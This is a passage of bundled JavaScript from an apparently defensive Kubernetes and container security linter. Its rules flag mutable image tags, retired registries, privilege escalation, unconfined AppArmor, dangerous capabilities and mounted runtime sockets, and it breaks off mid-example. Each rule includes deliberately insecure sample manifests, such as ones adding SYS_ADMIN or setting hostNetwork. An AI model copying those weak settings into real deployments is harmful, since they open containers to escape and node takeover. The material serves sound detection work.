        else if (base.until !== head.until || base.reason !== head.reason) {
            yield { at: head, message: `the exception from ${head.rule} is rewritten: the new form holds once it is merged` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/guard/waiver-expired.js


/* harmony default export */ const waiver_expired = ((0,rule/* defineRule */.Km)({
    id: 'guard/waiver-expired',
    severity: 'low',
    threat: 'access',
    summary: 'An exception has ended, or never held',
    why: 'An exception whose day has passed, or that gives no reason, covers nothing any more: it only looks as if it did.',
    instead: 'Mend what it covered and delete it, or give it a reason and a new date.',
    references: [cwe(1164)],
    bad: '# plimsoll-ignore k8s/host-network until 2020-01-31: until the new ingress is there\nhostNetwork: true\n',
    good: '# plimsoll-ignore k8s/host-network: the node agent needs the node’s address\nhostNetwork: true\n',
    on: 'waiver',
    *check(waiver, { today }) {
        if (waiver.reason === '')
            yield { at: waiver, message: `the exception from ${waiver.rule} gives no reason, so it does not hold` };
        else if (waiver.until !== null && waiver.until < today) {
            yield { at: waiver, message: `the exception from ${waiver.rule} ended on ${waiver.until}` };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/image/deprecated-registry.js


const retired = [
    {
        holds: 'k8s.gcr.io',
        name: /^(?:us\.|eu\.|asia\.)?k8s\.gcr\.io(?=\/)/,
        since: 'frozen since April 2023',
        now: 'registry.k8s.io',
        same: true,
    },
    { holds: 'gcr.io/google', name: /^gcr\.io\/google[-_]containers(?=\/)/, since: 'frozen since 2020', now: 'registry.k8s.io' },
    { holds: 'gcr.io/kubernetes-helm', name: /^gcr\.io\/kubernetes-helm(?=\/)/, since: 'Helm 2, without support since 2020' },
    { holds: 'docker.pkg.github.com', name: /^docker\.pkg\.github\.com(?=\/)/, since: 'replaced by ghcr.io in 2021' },
    { holds: 'registry.centos.org', name: /^registry\.centos\.org(?=\/)/, since: 'shut down' },
    { holds: 'quay.io/kubernetes-ingress-controller', name: /^quay\.io\/kubernetes-ingress-controller(?=\/)/, since: 'frozen since 2020' },
];
/* harmony default export */ const deprecated_registry = ((0,rule/* defineRule */.Km)({
    id: 'image/deprecated-registry',
    severity: 'medium',
    threat: 'cve',
    summary: 'An image comes from a registry that gets no updates any more',
    why: 'A frozen registry keeps the flaws that its images have, and can be switched off at any time.',
    instead: 'Take the image from the registry that followed it: `registry.k8s.io` for `k8s.gcr.io` and `gcr.io/google-containers`, `ghcr.io` for `docker.pkg.github.com`.',
    references: [
        kubernetes('setup/release/', 'releases and images'),
        { title: 'Kubernetes: k8s.gcr.io is frozen', url: 'https://kubernetes.io/blog/2023/02/06/k8s-gcr-io-freeze-announcement/' },
    ],
    bad: 'FROM k8s.gcr.io/pause:3.9\nUSER 65535\n',
    good: 'FROM registry.k8s.io/pause:3.9\nUSER 65535\n',
    on: 'imageReference',
    *check(image) {
        const name = `${image.registry?.value ?? 'docker.io'}/${image.repository.value}`;
        const found = retired.find((each) => name.includes(each.holds) && each.name.test(name));
        if (!found)
            return;
        yield {
            at: { span: image.registry?.span ?? image.span },
            field: 'registry',
            identity: name,
            message: `image "${image.text}" comes from a retired registry (${found.since})`,
            fix: moved(image, found),
        };
    },
}));
function moved({ whole, text, unresolved }, { name, now, same }) {
    if (!whole || !now || unresolved)
        return undefined;
    const fix = same ? rule/* safeFix */.bS : rule/* unsafeFix */.ed;
    return fix(`Take it from ${now}`, { span: whole, text: text.replace(name, now) });
}

;// CONCATENATED MODULE: ./lib/core/pin.js

/**
 * The digest behind the tag: `name:tag@sha256:…` is read by Docker, Kubernetes and Compose alike, and people and Dependabot still see the version.
 * None where the reference has variables, or does not stand in one piece.
 */
function imagePin({ registry, repository, tag, digest, whole, unresolved }) {
    if (whole === null || unresolved || digest !== null)
        return undefined;
    const name = {
        kind: 'image',
        registry: registry?.value ?? 'docker.io',
        repository: repository.value,
        tag: tag?.value ?? 'latest',
    };
    const end = { start: whole.end, end: whole.end };
    return {
        name,
        fix: ({ id }) => (0,rule/* safeFix */.bS)('Pin it to the digest that the tag names today', { span: end, text: `${tag === null ? ':latest' : ''}@${id}` }),
    };
}
/** The commit in place of the tag or branch, which becomes a comment in the form that Dependabot and Renovate read and renew. */
function actionPin(reference) {
    const { owner, repository, ref, refSpan, document } = reference;
    if (ref === null || refSpan === null || document.text.slice(refSpan) !== ref)
        return undefined;
    return {
        name: { kind: 'action', owner, repository, ref },
        fix: ({ id, version = ref }) => {
            const at = commentPlace(reference);
            const comment = at === null ? '' : ` # ${version}`;
            // Edits that touch could not be joined with others.
            const edits = at === null || at === refSpan.end
                ? [{ span: refSpan, text: `${id}${comment}` }]
                : [
                    { span: refSpan, text: id },
                    { span: { start: at, end: at }, text: comment },
                ];
            return (0,rule/* safeFix */.bS)('Pin it to the commit that the version names today', ...edits);
        },
    };
}
/** Null where the line goes on with what a comment would hide, or has one that names a version. */
function commentPlace({ document, node }) {
    const { value } = document.text;
    const { start, end } = node.span;
    const lineEnd = value.indexOf('\n', end);
    const rest = value.slice(end, lineEnd === -1 ? undefined : lineEnd).trimEnd();
    const [, closing] = /^([\s,}\]]*)(?:#|$)/.exec(rest) ?? [];
    if (closing === undefined || value.slice(start, end).includes('\n') || /#.*\d\.\d/.test(rest))
        return null;
    return end + closing.trimEnd().length;
}

;// CONCATENATED MODULE: ./lib/rules/image/digest-removed.js


const digest = 'sha256:0f5b6b5c0d9d8a2e4a1f3d7b9c1e2f3a4b5c6d7e8f90a1b2c3d4e5f60718293a';
/* harmony default export */ const digest_removed = ((0,rule/* defineChangeRule */.mM)({
    id: 'image/digest-removed',
    severity: 'high',
    threat: 'immutability',
    summary: 'The change takes away the digest of an image',
    why: 'With its digest the image could not be changed by anyone without a change of this file. A tag alone can be moved at any time.',
    instead: 'Keep the digest, or name the digest of the new version.',
    references: [
        { title: 'Kubernetes: image names and digests', url: 'https://kubernetes.io/docs/concepts/containers/images/#image-names' },
        {
            title: 'OCI distribution: pulling manifests',
            url: 'https://github.com/opencontainers/distribution-spec/blob/main/spec.md#pulling-manifests',
        },
    ],
    bad: { base: `FROM node:24.1.0@${digest}\n`, head: 'FROM node:24.1.0\n' },
    good: { base: `FROM node:24.1.0@${digest}\n`, head: `FROM node:24.2.0@${digest.replace('0f5b', '1f5b')}\n` },
    supersedes: ['image/mutable-tag', 'image/not-pinned-by-digest'],
    on: 'imageReference',
    *compare(base, head) {
        if (!base?.digest || !head || head.digest)
            return;
        const isSame = head.repository.value === base.repository.value && (!head.tag || head.tag.value === base.tag?.value);
        const edit = isSame && head.whole && !base.unresolved ? { span: head.whole, text: base.text } : null;
        yield {
            at: { span: head.whole ?? head.span },
            removed: base.digest,
            message: `image "${head.text}" was pinned by digest and no longer is`,
            fix: edit ? { title: 'Restore the digest', safe: true, edits: [edit] } : undefined,
            pin: imagePin(head),
        };
    },
}));

// EXTERNAL MODULE: ./lib/documents/dockerfile-variables.js
var dockerfile_variables = __webpack_require__(9818);
// EXTERNAL MODULE: ./lib/documents/image.js
var documents_image = __webpack_require__(2191);
;// CONCATENATED MODULE: ./lib/estate/image-tags.js




/** What a file must hold to say something of an image's tag. */
const mentionsTags = /\b(?:artifacts|newTag|digest|build|edit set image)\b/;
const image_tags_known = new WeakMap();
/** The tag that is written is not the one that will run: Skaffold or Kustomize puts another one in, or the image is built in the repository and never pulled. */
function isTagSetElsewhere(image, estate) {
    const { built, set, local } = image_tags_known.get(estate) ?? read(estate);
    const name = nameOf(image);
    if (image.place === 'kustomize')
        return false;
    if (image.place === 'kubernetes' && (built.has(name) || set.has(name)))
        return true;
    if (image.place === 'helm-values' && built.has(name))
        return true;
    return (local.get(localName(image)) ?? []).some((dockerfile) => dockerfile !== image.document.text.path);
}
const nameOf = ({ registry, repository }) => `${registry ? `${registry.value}/` : ''}${repository.value}`;
/** Names of one word are those of Docker's own images: nobody else can publish one. Empty for all others. */
const localName = ({ registry, repository, tag }) => registry === null && !repository.value.includes('/') ? `${repository.value}:${tag?.value ?? 'latest'}` : '';
function read(estate) {
    const documents = (kind) => estate.documents.filter((document) => document.kind === kind);
    const roots = (kind) => documents(kind).flatMap((document) => document.grains('yaml').flatMap(({ tree }) => tree.root ?? []));
    const references = (images) => images.flatMap((image) => (0,documents_image/* parseImage */.zZ)(image) ?? []);
    const local = new Map();
    for (const { images, dockerfile } of imageBuilds(estate)) {
        for (const name of references(images).map(localName))
            if (name !== '')
                local.set(name, [...(local.get(name) ?? []), dockerfile]);
    }
    const rewritten = {
        built: new Set(references(roots('skaffold').flatMap(artifacts)).map(nameOf)),
        set: new Set([...roots('kustomization').flatMap(kustomized), ...estate.documents.flatMap(editedImages)]),
        local,
    };
    image_tags_known.set(estate, rewritten);
    return rewritten;
}
/** Those of profiles too. `imageName` is of schemas before v1alpha5. */
const artifacts = (root) => [root, ...(0,yaml_values/* mapsIn */.nf)(root.at('profiles'))]
    .flatMap((part) => (0,yaml_values/* mapsIn */.nf)(part.at('build', 'artifacts')))
    .flatMap((artifact) => (artifact.at('image') ?? artifact.at('imageName'))?.string ?? []);
/** A new name alone leaves the tag as it is. */
const kustomized = (root) => [root, root.at('spec')]
    .flatMap((part) => (0,yaml_values/* mapsIn */.nf)(part?.at('images')))
    .flatMap((image) => (image.at('newTag')?.string || image.at('digest')?.string ? (image.at('name')?.string ?? []) : []));
/** `kustomize edit set image NAME=NEWNAME:TAG` in a workflow. */
const editedImages = (document) => document
    .grains('step')
    .flatMap(workflow_shell/* stepInvocations */.Wz)
    .flatMap(({ name, args }) => {
    const words = args.map(({ value }) => value);
    return name === 'kustomize' && words.slice(0, 3).join(' ') === 'edit set image'
        ? words.slice(3).map((word) => word.split(/[=:@]/)[0] ?? '')
        : [];
});

;// CONCATENATED MODULE: ./lib/rules/image/mutable-tag.js





/** Names that publishers move from release to release. */
const moving = new Set('latest stable unstable edge main master trunk head dev devel develop development nightly daily weekly snapshot lts canary current next mainline rolling rawhide testing sid alpha beta rc test staging prod production release'.split(' '));
/** A moving name with a flavour behind it. A date, a number or a commit would pin it: `nightly-2026-01-31`, `main-1f3c9a2`. */
const flavoured = /^(?:stable|unstable|edge|main|master|dev|nightly|lts|canary|current|mainline|testing|rolling)(?:-[a-z]+|-alpine[\d.]*)+$/;
const aroundLatest = /^latest[-.]|[-.]latest$/;
const isMoving = (tag) => moving.has(tag) || (tag.includes('-') && flavoured.test(tag)) || (tag.includes('latest') && aroundLatest.test(tag));
/* harmony default export */ const mutable_tag = ((0,rule/* defineRule */.Km)({
    id: 'image/mutable-tag',
    severity: 'high',
    threat: 'immutability',
    summary: 'An image has no tag, or a tag that moves',
    why: 'The same file gives another image tomorrow: what was reviewed and scanned is not what runs, and whoever takes over the tag runs code here.',
    instead: 'Name a version and its digest: `name:1.2.3@sha256:…`. `plimsoll fix --online` looks the digest up.',
    references: [
        { title: 'Kubernetes: image names and digests', url: 'https://kubernetes.io/docs/concepts/containers/images/#image-names' },
        { title: 'Docker: pin base image versions', url: 'https://docs.docker.com/build/building/best-practices/#pin-base-image-versions' },
        { title: 'CWE-829', url: 'https://cwe.mitre.org/data/definitions/829.html' },
    ],
    peers: [
        'hadolint:DL3006',
        'hadolint:DL3007',
        'checkov:CKV_DOCKER_7',
        'checkov:CKV_K8S_14',
        'trivy:DS-0001',
        'kics:image_version_not_explicit',
        'kics:image_version_using_latest',
        'zizmor:unpinned-images',
        'dclint:service-image-require-explicit-tag',
    ],
    bad: 'FROM node:latest\nUSER 1000\n',
    good: 'FROM node:24.1.0@sha256:0f5b6b5c0d9d8a2e4a1f3d7b9c1e2f3a4b5c6d7e8f90a1b2c3d4e5f60718293a\nUSER 1000\n',
    on: 'imageReference',
    excusedBy: { mentions: mentionsTags, excuses: isTagSetElsewhere },
    *check(image) {
        if (image.digest !== null)
            return;
        const identity = `${image.registry?.value ?? ''}/${image.repository.value}`;
        const report = (message) => ({ at: { span: image.whole ?? image.span }, identity, pin: imagePin(image), message });
        if (image.tag !== null) {
            if (isMoving(image.tag.value.toLowerCase()))
                yield report(`the tag "${image.tag.value}" of image "${image.text}" moves`);
            else if (image.place === 'from' && isMovingBare(withoutArguments(image.tag.value).toLowerCase()))
                yield report(`the tag "${image.tag.value}" of image "${image.text}" moves where no build argument gives more of it`);
            return;
        }
        const lastComponent = image.repository.value.slice(image.repository.value.lastIndexOf('/') + 1);
        if (!(0,documents_image/* isOpen */.nT)(image.repository.value) || (!(0,documents_image/* isOpen */.nT)(lastComponent) && !/[{}]/.test(lastComponent)))
            yield report(`image "${image.text}" has neither tag nor digest`);
        else if (image.place === 'from' && isUntagged((0,documents_image/* parseImage */.zZ)(withoutArguments(image.text))))
            yield report(`image "${image.text}" has neither tag nor digest where no build argument gives one`);
    },
}));
/** Without its arguments it must still be a tag. */
const isMovingBare = (tag) => /^\w/.test(tag) && isMoving(tag);
/** A build argument without a default is empty (Dockerfile reference, "ARG"); what BuildKit sets by itself is not. */
const withoutArguments = (text) => text.replace(/\$(?:\{(\w+)\}|(\w+))/g, (all, a, b) => ((0,dockerfile_variables/* isSetByBuildKit */.t)(a ?? b) ? all : ''));
const isUntagged = (image) => image !== null && image.tag === null && image.digest === null && /^[\w.-]+(?:\/[\w.-]+)*(?<=[a-z\d])$/i.test(image.repository.value);

;// CONCATENATED MODULE: ./lib/rules/image/not-pinned-by-digest.js





/* harmony default export */ const not_pinned_by_digest = ((0,rule/* defineRule */.Km)({
    id: 'image/not-pinned-by-digest',
    severity: 'low',
    strict: true,
    threat: 'immutability',
    summary: 'An image is named by its tag alone',
    why: 'A tag can be moved at any time, by its owner or by whoever takes over the registry; a digest names one image for ever.',
    instead: 'Add the digest: `name:1.2.3@sha256:…`; `plimsoll fix --online --strict` looks it up. Dependabot and Renovate keep both up to date.',
    references: [
        docker('build/building/best-practices/#pin-base-image-versions', 'pin base image versions'),
        kubernetes('concepts/containers/images/#image-names', 'image names and digests'),
        cwe(829),
    ],
    peers: ['semgrep:dockerfile-source-not-pinned', 'scorecard:Pinned-Dependencies', 'zizmor:unpinned-images'],
    bad: 'FROM node:24.1.0\nUSER 1000\n',
    good: 'FROM node:24.1.0@sha256:0f5b6b5c0d9d8a2e4a1f3d7b9c1e2f3a4b5c6d7e8f90a1b2c3d4e5f60718293a\nUSER 1000\n',
    on: 'imageReference',
    excusedBy: { mentions: mentionsTags, excuses: isTagSetElsewhere },
    *check(image) {
        if (image.digest !== null)
            return;
        const last = image.tag?.value ?? image.repository.value.slice(image.repository.value.lastIndexOf('/') + 1);
        // The variable may hold the digest.
        if ((0,documents_image/* isOpen */.nT)(last))
            return;
        const { registry, repository, whole, span, text } = image;
        const identity = `${registry?.value ?? ''}/${repository.value}`;
        yield { at: { span: whole ?? span }, identity, pin: imagePin(image), message: `image "${text}" is not pinned by a digest` };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/image/registry-not-allowed.js



/* harmony default export */ const registry_not_allowed = ((0,rule/* defineRule */.Km)({
    id: 'image/registry-not-allowed',
    severity: 'medium',
    threat: 'immutability',
    summary: "An image comes from a registry that is not on the policy's list",
    why: 'Images of other registries are not scanned, not signed or not kept by the people who answer for this repository.',
    instead: 'Take the image from an allowed registry, or add the registry to `registries` in the policy.',
    references: [docker('build/building/best-practices/#choose-the-right-base-image', 'choose the right base image'), cwe(829)],
    peers: ['hadolint:DL3026', 'datadog:use_only_an_allowed_registry_in_the_from_image'],
    bad: {
        Dockerfile: 'FROM quay.io/other/node:24.1.0\nUSER 1000\n',
        '.plimsoll.yml': 'registries: [registry.example]\n',
    },
    good: {
        Dockerfile: 'FROM registry.example/node:24.1.0\nUSER 1000\n',
        '.plimsoll.yml': 'registries: [registry.example]\n',
    },
    on: 'imageReference',
    *check(image, { registries }) {
        if (registries.length === 0 || (0,documents_image/* isOpen */.nT)(image.registry?.value ?? image.repository.value.split('/')[0] ?? ''))
            return;
        const name = fullName(image);
        if (registries.some((allowed) => matches(name, allowed)))
            return;
        const registry = image.registry?.value ?? 'docker.io';
        const at = { span: (image.registry ?? image.repository).span };
        yield {
            at,
            field: 'registry',
            identity: name,
            message: `image "${image.text}" comes from "${registry}", which is not on the list of allowed registries`,
        };
    },
}));
/** `docker.io/library/ubuntu` for `ubuntu`. */
function fullName({ registry, repository }) {
    const host = registry?.value.toLowerCase() ?? 'docker.io';
    if (!/^(?:index\.|registry-1\.)?docker\.io$/.test(host))
        return `${host}/${repository.value}`;
    return `docker.io/${repository.value.includes('/') ? '' : 'library/'}${repository.value}`;
}
/** A registry, or a registry with the beginning of a path; `*` stands for any text. */
function matches(name, allowed) {
    const pattern = allowed
        .replace(/\/$/, '')
        .split('*')
        .map((part) => part.replace(/[.+?^${}()|[\]\\]/g, '\\$&'))
        .join('.*');
    return new RegExp(`^${pattern}(?:/|$)`, 'i').test(name);
}

;// CONCATENATED MODULE: ./lib/documents/kubernetes-security.js



/** Every value written at `path` below a `securityContext`: the pod's own, and those of its containers. */
function* securityValues(workload, ...path) {
    const own = workload.at('securityContext', ...path);
    if (!(0,yaml_values/* isUnset */.K$)(own))
        yield { node: own, subject: workload.subject, container: null };
    for (const container of workload.containers) {
        const node = container.at('securityContext', ...path);
        if (!(0,yaml_values/* isUnset */.K$)(node))
            yield { node, subject: container.subject, container };
    }
}
/**
 * True for the first container of a pod that leaves a field of the security context to the pod: what is wrong with the pod's value is told
 * once, with this one.
 */
function isFirstHeir(container, field) {
    const { workload } = container;
    const known = firstHeirs.get(workload) ?? new Map();
    firstHeirs.set(workload, known);
    if (!known.has(field)) {
        known.set(field, workload.containers.find((other) => (0,yaml_values/* isUnset */.K$)(other.at('securityContext', field))));
    }
    return known.get(field) === container;
}
const firstHeirs = new WeakMap();
/** Sets a field of a container's security context. What is added stands behind the container's name, as that is where absence is told. */
const setSecurity = (container, path, value) => setAt(container.document.text, container.node, ['securityContext', ...path], value, 'name');
/** Removes a field of the security context that `securityValues` found. */
const removeSecurity = (workload, { container }, path) => removeAt(workload.document.text, container?.node ?? workload.spec, ['securityContext', ...path]);
function* addedCapabilities(container) {
    const add = container.at('securityContext', 'capabilities', 'add');
    for (const [index, node] of (0,yaml_values/* itemsOf */.S3)(add).entries()) {
        if (node.kind !== 'scalar' || node.templated)
            continue;
        const fix = removeAt(container.document.text, container.node, ['securityContext', 'capabilities', 'add', index]);
        yield { node, name: node.string.toUpperCase().replace(/^CAP_/, ''), fix };
    }
}

;// CONCATENATED MODULE: ./lib/rules/k8s/allow-privilege-escalation.js




const field = 'allowPrivilegeEscalation';
/* harmony default export */ const allow_privilege_escalation = ((0,rule/* defineRule */.Km)({
    id: 'k8s/allow-privilege-escalation',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A process in a container may gain more privileges than its parent',
    why: 'Unless it is forbidden, a setuid binary or a file capability inside the image turns a foothold as a user into root of the container.',
    instead: 'Set `securityContext.allowPrivilegeEscalation: false` on the container; it has no pod-level form and is true by default.',
    references: [pss.restricted('Privilege Escalation'), cwe(250), attack('T1548.001')],
    peers: ['trivy:KSV-0001', 'checkov:CKV_K8S_20', 'kube-linter:privilege-escalation-container', 'kics:privilege_escalation_allowed'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        allowPrivilegeEscalation: false
`,
    on: 'container',
    guard: (container) => container.at('securityContext', field),
    *check(container) {
        if (container.workload.windows)
            return;
        const value = container.at('securityContext', field);
        const fix = isRefused(container) ? undefined : (0,rule/* safeFix */.bS)(`Set \`${field}: false\``, setSecurity(container, [field], false));
        if (value?.boolean === true)
            yield { at: value, message: `container "${container.name}" sets ${field} to true`, fix };
        else if (!container.partial && (0,yaml_values/* isMissing */.b2)(container.node, 'securityContext', field)) {
            yield { at: container.anchor, field, message: `container "${container.name}" does not set ${field} to false`, fix };
        }
    },
}));
/** The API server takes no pod with `false` here on a container that is privileged or adds SYS_ADMIN (ValidateSecurityContext). */
const isRefused = (container) => container.at('securityContext', 'privileged')?.boolean === true ||
    [...addedCapabilities(container)].some(({ name }) => name === 'SYS_ADMIN');

;// CONCATENATED MODULE: ./lib/rules/k8s/apparmor-unconfined.js





const prefix = 'container.apparmor.security.beta.kubernetes.io/';
const allowed = /^(?:runtime\/default|localhost\/.*)?$/;
/* harmony default export */ const apparmor_unconfined = ((0,rule/* defineRule */.Km)({
    id: 'k8s/apparmor-unconfined',
    severity: 'medium',
    threat: 'runtime',
    summary: 'AppArmor is switched off for a container',
    why: "The runtime's AppArmor profile keeps a container from writing to /proc and /sys and from mounting; unconfined, nothing does.",
    instead: 'Leave the profile out, or use `RuntimeDefault` or one of your own with `Localhost`.',
    references: [pss.baseline('AppArmor'), kubernetes('tutorials/security/apparmor/', 'AppArmor'), attack('T1611')],
    peers: ['trivy:KSV-0002', 'kubesec:ApparmorUnconfined', 'kyverno:restrict-apparmor-profiles'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    appArmorProfile:
      type: Unconfined
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  securityContext:
    appArmorProfile:
      type: RuntimeDefault
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    on: 'workload',
    *check(workload) {
        for (const { node, subject } of securityValues(workload, 'appArmorProfile', 'type')) {
            if (node.kind !== 'scalar' || node.templated || node.string === 'RuntimeDefault' || node.string === 'Localhost')
                continue;
            const fix = (0,rule/* unsafeFix */.ed)('Use the profile `RuntimeDefault`', replaceScalar(node, 'RuntimeDefault'));
            yield { at: node, subject, message: `the AppArmor profile is "${node.string}"`, fix };
        }
        const containers = new Map(workload.containers.map((container) => [container.name, container]));
        for (const { key, value } of (0,yaml_values/* entriesOf */.Mc)(workload.metadata?.at('annotations'))) {
            if (!key.string.startsWith(prefix) || value.kind !== 'scalar' || value.templated || allowed.test(value.string))
                continue;
            const container = containers.get(key.string.slice(prefix.length));
            const fix = (0,rule/* unsafeFix */.ed)('Use the profile `runtime/default`', replaceScalar(value, 'runtime/default'));
            yield { at: value, subject: container?.subject ?? workload.subject, message: `the AppArmor profile is "${value.string}"`, fix };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/capabilities-add-dangerous.js



const capabilities_add_dangerous_dangerous = new Set('ALL BPF DAC_READ_SEARCH MAC_ADMIN MAC_OVERRIDE NET_ADMIN PERFMON SYSLOG SYS_ADMIN SYS_BOOT SYS_MODULE SYS_PTRACE SYS_RAWIO'.split(' '));
/* harmony default export */ const capabilities_add_dangerous = ((0,rule/* defineRule */.Km)({
    id: 'k8s/capabilities-add-dangerous',
    severity: 'high',
    threat: 'runtime',
    summary: 'A container gets a capability that owns the node',
    why: 'With one of these capabilities a process loads kernel modules, traces other programs, mounts file systems or rewrites the network: most container escapes need just that.',
    instead: 'Add only what the program fails without; a device or a sysctl often takes the place of SYS_ADMIN.',
    references: [pss.baseline('Capabilities'), cwe(250), attack('T1611')],
    peers: [
        'trivy:KSV-0005',
        'trivy:KSV-0120',
        'checkov:CKV_K8S_39',
        'polaris:dangerousCapabilities',
        'kics:containers_with_sys_admin_capabilities',
    ],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        capabilities:
          add: [SYS_ADMIN]
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        capabilities:
          add: [NET_BIND_SERVICE]
`,
    on: 'container',
    *check(container) {
        for (const { node, name, fix } of addedCapabilities(container)) {
            if (capabilities_add_dangerous_dangerous.has(name))
                yield {
                    at: node,
                    message: `container "${container.name}" adds the capability ${node.string}`,
                    fix: (0,rule/* unsafeFix */.ed)('Remove the capability', fix),
                };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/capabilities-add-disallowed.js



/** As the standard writes them: it knows neither lower case nor the prefix CAP_. */
const baseline = new Set('AUDIT_WRITE CHOWN DAC_OVERRIDE FOWNER FSETID KILL MKNOD NET_BIND_SERVICE SETFCAP SETGID SETPCAP SETUID SYS_CHROOT'.split(' '));
/* harmony default export */ const capabilities_add_disallowed = ((0,rule/* defineRule */.Km)({
    id: 'k8s/capabilities-add-disallowed',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A container gets a capability beyond the baseline of the Pod Security Standards',
    why: 'Each of these capabilities is a part of root that the container has on the node; with NET_RAW, which many runtimes give by themselves, it can forge packets.',
    instead: 'Remove it, or run the one workload that needs it in a namespace of its own.',
    references: [pss.baseline('Capabilities'), cwe(250), attack('T1611')],
    peers: ['gatekeeper:capabilities', 'kyverno:disallow-capabilities'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        capabilities:
          add: [NET_RAW]
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        capabilities:
          add: [NET_BIND_SERVICE]
`,
    on: 'container',
    *check(container) {
        for (const { node, fix } of addedCapabilities(container)) {
            if (!baseline.has(node.string))
                yield {
                    at: node,
                    message: `container "${container.name}" adds the capability ${node.string}`,
                    fix: (0,rule/* unsafeFix */.ed)('Remove the capability', fix),
                };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/capabilities-add-restricted.js



/* harmony default export */ const capabilities_add_restricted = ((0,rule/* defineRule */.Km)({
    id: 'k8s/capabilities-add-restricted',
    severity: 'low',
    strict: true,
    threat: 'runtime',
    summary: 'A container adds a capability',
    why: 'The restricted level of the Pod Security Standards lets a container add no capability but NET_BIND_SERVICE.',
    instead: 'Remove it; listen on a port above 1023 and let the image own its files.',
    references: [pss.restricted('Capabilities'), cwe(250)],
    peers: ['kics:containers_with_added_capabilities', 'trivy:KSV-0022', 'checkov:CKV_K8S_25'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        capabilities:
          add: [CHOWN]
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        capabilities:
          add: [NET_BIND_SERVICE]
`,
    on: 'container',
    *check(container) {
        if (container.workload.windows)
            return;
        for (const { node, fix } of addedCapabilities(container)) {
            if (node.string === 'NET_BIND_SERVICE')
                continue;
            const message = `container "${container.name}" adds the capability ${node.string}`;
            yield { at: node, message, fix: (0,rule/* unsafeFix */.ed)('Remove the capability', fix) };
        }
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/capabilities-not-dropped.js





/** The runtimes read it in any case. */
const dropAll = (container) => (0,yaml_values/* scalarsIn */.PX)(container.at('securityContext', 'capabilities', 'drop')).find(({ string, templated }) => string.toUpperCase() === 'ALL' || templated);
/* harmony default export */ const k8s_capabilities_not_dropped = ((0,rule/* defineRule */.Km)({
    id: 'k8s/capabilities-not-dropped',
    severity: 'medium',
    threat: 'runtime',
    summary: 'A container keeps capabilities that it need not have',
    why: 'Fourteen capabilities stay unless they are dropped; NET_RAW among them lets a process forge packets, MKNOD and SETUID help exploits on.',
    instead: 'Drop `ALL`, and add back the one that the program fails without.',
    references: [
        pss.restricted('Capabilities'),
        cwe(250),
        kubernetes('tasks/configure-pod-container/security-context/#set-capabilities-for-a-container', 'capabilities'),
    ],
    peers: [
        'trivy:KSV-0003',
        'trivy:KSV-0106',
        'checkov:CKV_K8S_37',
        'checkov:CKV_K8S_28',
        'kube-linter:drop-net-raw-capability',
        'kics:no_drop_capabilities_for_containers',
    ],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
`,
    good: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  containers:
    - name: web
      image: registry.example/web:1.4
      securityContext:
        capabilities:
          drop: [ALL]
`,
    on: 'container',
    guard: dropAll,
    *check(container) {
        const path = ['securityContext', 'capabilities', 'drop'];
        if (container.partial || container.workload.windows || dropAll(container) !== undefined)
            return;
        const drop = container.at(...path);
        if (drop?.kind !== 'sequence' && !(0,yaml_values/* isMissing */.b2)(container.node, ...path))
            return;
        const { text } = container.document;
        const edit = drop?.kind === 'sequence' ? appendItem(text, drop, 'ALL') : setSecurity(container, ['capabilities', 'drop'], ['ALL']);
        const message = `container "${container.name}" does not drop ALL capabilities`;
        yield { at: container.anchor, field: 'capabilities.drop', message, fix: (0,rule/* unsafeFix */.ed)('Drop `ALL`', edit) };
    },
}));

;// CONCATENATED MODULE: ./lib/rules/k8s/container-runtime-socket-mount.js



const socketName = /\/(?:docker|containerd|crio|cri-dockerd|dockershim|podman|buildkitd)\.sock$/;
/** Directories that hold such a socket on common nodes. */
const directories = new Set(['/run', '/run/containerd', '/run/crio', '/run/podman', '/run/k3s', '/run/k3s/containerd', '/run/docker'].flatMap((path) => [
    path,
    `/var${path}`,
]));
/* harmony default export */ const container_runtime_socket_mount = ((0,rule/* defineRule */.Km)({
    id: 'k8s/container-runtime-socket-mount',
    severity: 'critical',
    threat: 'runtime',
    summary: "A pod mounts the socket of its node's container runtime",
    why: 'Whoever speaks to the container runtime starts a privileged container with the file system of the node: the socket is root on the node.',
    instead: 'Build images with a rootless builder, and read container data from the kubelet or the API server.',
    references: [pss.baseline('HostPath Volumes'), attack('T1611'), cwe(250)],
    peers: ['trivy:KSV-0006', 'checkov:CKV_K8S_27', 'kube-linter:docker-sock', 'kics:docker_daemon_socket_is_exposed_to_containers'],
    bad: `
apiVersion: v1
kind: Pod
metadata:
  name: web
spec:
  volumes:
    - name: docker
      hostPath:
